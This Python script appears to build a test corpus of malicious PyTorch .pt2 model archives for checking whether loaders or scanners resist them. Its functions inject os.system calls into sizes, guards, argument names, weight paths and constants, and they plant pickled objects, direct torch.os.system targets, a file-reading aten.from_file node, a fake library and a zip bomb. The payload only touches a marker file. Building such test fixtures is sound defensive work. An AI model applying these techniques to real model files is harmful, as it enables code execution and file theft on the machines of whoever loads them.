"""ExportedProgram archives that would run code, or read the machine, when torch opens or runs them: `python exported_program.py FOLDER`."""

from __future__ import annotations

import functools
import io
import json
import pickle
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from places import Evil, Place, make_all, rewritten


class Net(torch.nn.Module):
    """Has weights, an input that nothing reads, and a size that is free; gives zeros for zeros."""

    def __init__(self) -> None:
        super().__init__()
        self.layer = torch.nn.Linear(4, 4)
        torch.nn.init.zeros_(self.layer.bias)

    def forward(self, x: torch.Tensor, unread: torch.Tensor) -> torch.Tensor:
        """One product."""
        return self.layer(x)


class Wide(torch.nn.Module):
    """A graph whose one product can be turned into any operator of one input."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """The negative."""
        return torch.neg(x)


class Moded(torch.nn.Module):
    """Has a text argument, which is a constant of the program."""

    def forward(self, x: torch.Tensor, mode: str = "plain") -> torch.Tensor:
        """The negative."""
        return torch.neg(x)


def archived(exported: Any) -> bytes:
    """What torch.export.save makes of it."""
    buffer = io.BytesIO()
    torch.export.save(exported, buffer)
    return buffer.getvalue()


@functools.cache
def program() -> bytes:
    """A legitimate archive."""
    free = {0: torch.export.Dim.AUTO}
    return archived(
        torch.export.export(Net().eval(), (torch.zeros(2, 4), torch.zeros(2, 4)), dynamic_shapes=(free, dict(free)))
    )


@functools.cache
def plain() -> bytes:
    """Another one, of one operator."""
    return archived(torch.export.export(Wide(), (torch.zeros(64),)))


def edited(change: Callable[[dict[str, Any]], object]) -> Callable[[bytes], bytes]:
    """Change a member's JSON in place."""

    def run(data: bytes) -> bytes:
        loaded = json.loads(data)
        change(loaded)
        return json.dumps(loaded).encode()

    return run


def renamed(old: str, new: str) -> Callable[[bytes], bytes]:
    """A string of the JSON, wherever it stands, replaced by another."""
    return lambda data: data.replace(json.dumps(old).encode(), json.dumps(new).encode())


def write(place: Place, content: bytes) -> None:
    """The model's file."""
    (place.model / "model.pt2").write_bytes(content)


def call(place: Place) -> str:
    """A Python expression that writes the marker, without a point in it."""
    return f'getattr(__import__("os"), "system")("touch {place.marker}")'


def saved(value: object) -> bytes:
    """What torch.save makes of it."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def symbolic_size(place: Place) -> None:
    """A size that sympy evaluates."""

    def change(loaded: dict[str, Any]) -> None:
        for meta in loaded["graph_module"]["graph"]["tensor_values"].values():
            for size in meta["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = call(place)

    write(place, rewritten(program(), {"models/model.json": edited(change)}))


def guard(place: Place) -> None:
    """A guard that torch executes when the program becomes a module."""
    change = edited(lambda loaded: loaded["guards_code"].append(f"{call(place)} == 0"))
    write(place, rewritten(program(), {"models/model.json": change}))


def pickled_weights(place: Place) -> None:
    """A weight marked as a pickle."""

    def change(loaded: dict[str, Any]) -> None:
        loaded["config"]["layer.bias"]["use_pickle"] = True
        loaded["config"]["layer.bias"]["path_name"] = "weight_9"

    files = {"data/weights/weight_9": saved(Evil(place))}
    write(place, rewritten(program(), {"model_weights_config.json": edited(change)}, files))


def pickled_samples(place: Place) -> None:
    """Sample inputs that are a pickle."""
    write(place, rewritten(program(), {"sample_inputs/model.pt": lambda data: saved(Evil(place))}))


def opaque_constant(place: Place) -> None:
    """A constant that torch unpickles because of its file's name, whatever is said of it."""

    def change(loaded: dict[str, Any]) -> None:
        (name, payload) = next(iter(loaded["config"].items()))
        loaded["config"][name] = {**payload, "path_name": "opaque_obj_0"}

    content = pickle.dumps(Evil(place))
    files = {"data/constants/opaque_obj_0": content + bytes(-len(content) % 4)}  # first it is read as float32
    write(place, rewritten(_with_constant(), {"model_constants_config.json": edited(change)}, files))


@functools.cache
def _with_constant() -> bytes:
    class Constant(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.kept = torch.ones(4)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * self.kept

    return archived(torch.export.export(Constant(), (torch.zeros(2, 4),)))


def argument_name(place: Place) -> None:
    """An argument's name that becomes a default value in generated code."""
    write(place, rewritten(program(), {"models/model.json": renamed("unread", f"unread={call(place)}")}))


def weight_path(place: Place) -> None:
    """A weight's path that becomes an expression in generated code."""
    path = f'bias" if {call(place)} else "bias'
    change = renamed("layer.bias", path)
    write(place, rewritten(program(), {"models/model.json": change, "model_weights_config.json": change}))


def text_constant(place: Place) -> None:
    """A text argument that becomes an expression in the generated guards."""
    moded = archived(torch.export.export(Moded(), (torch.zeros(2, 4),), {"mode": "plain"}))
    write(place, rewritten(moded, {"models/model.json": renamed("plain", f"' or {call(place)} or '")}))


def imported_container(place: Place) -> None:
    """A nesting of inputs whose container imports a module."""
    spec = [1, {
        "type": "collections.defaultdict",
        "context": {"default_factory_module": "antigravity", "default_factory_name": "fly", "dict_context": []},
        "children_spec": [],
    }]  # fmt: skip

    def change(loaded: dict[str, Any]) -> None:
        loaded["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = json.dumps(spec)

    write(place, rewritten(program(), {"models/model.json": edited(change)}))


def called_function(place: Place) -> None:
    """A node whose target is a function of Python's standard library, found through torch."""
    write(
        place, _with_node("torch.os.system", [{"name": "", "arg": {"as_string": f"touch {place.marker}"}, "kind": 1}])
    )


def file_read(place: Place) -> None:
    """An operator that reads a file of the machine into the outputs."""
    arguments = [
        {"name": "filename", "arg": {"as_string": place.secret}, "kind": 1},
        {"name": "shared", "arg": {"as_bool": False}, "kind": 1},
        {"name": "size", "arg": {"as_int": 64}, "kind": 1},
    ]
    write(place, _with_node("torch.ops.aten.from_file.default", arguments))


def _with_node(target: str, inputs: list[dict[str, Any]]) -> bytes:
    def change(loaded: dict[str, Any]) -> None:
        (node,) = loaded["graph_module"]["graph"]["nodes"]
        node.update(target=target, inputs=inputs)

    return rewritten(plain(), {"models/model.json": edited(change)})


def compiled_library(place: Place) -> None:
    """A library that AOTInductor made, which is loaded with the archive."""
    write(place, rewritten(program(), {}, {"data/aotinductor/model/net.so": b"\x7fELF"}))


def older_layout(place: Place) -> None:
    """The layout of torch 2.7, whose weights are a pickle."""
    with zipfile.ZipFile(io.BytesIO(plain())) as archive:
        model = next(archive.read(name) for name in archive.namelist() if name.endswith("models/model.json"))
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        out.writestr("version", "8.20")
        out.writestr("serialized_exported_program.json", model)
        out.writestr("serialized_state_dict.pt", saved(Evil(place)))
        out.writestr("serialized_constants.pt", saved({}))
        out.writestr("serialized_example_inputs.pt", saved(((torch.zeros(64),), {})))
    write(place, made.getvalue())


def member_twice(place: Place) -> None:
    """Two programs of one name, of which one reader sees the first and another the last."""
    write(place, rewritten(program(), {}, {"models/model.json": b"{}"}))


def unpacks_to_much(place: Place) -> None:
    """A member of 400 MB in a file of 400 kB."""
    made = io.BytesIO(program())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{archive.namelist()[0].split('/')[0]}/extra/zeros", bytes(400 << 20))
    write(place, made.getvalue())


ATTACKS = {
    one.__name__: one
    for one in (
        symbolic_size, guard, pickled_weights, pickled_samples, opaque_constant, argument_name, weight_path, text_constant,
        imported_container, called_function, file_read, compiled_library, older_layout, member_twice, unpacks_to_much,
    )
}  # fmt: skip

if __name__ == "__main__":
    make_all(ATTACKS, Path(sys.argv[1]))
    (Path(sys.argv[1]) / "legitimate.pt2").write_bytes(program())
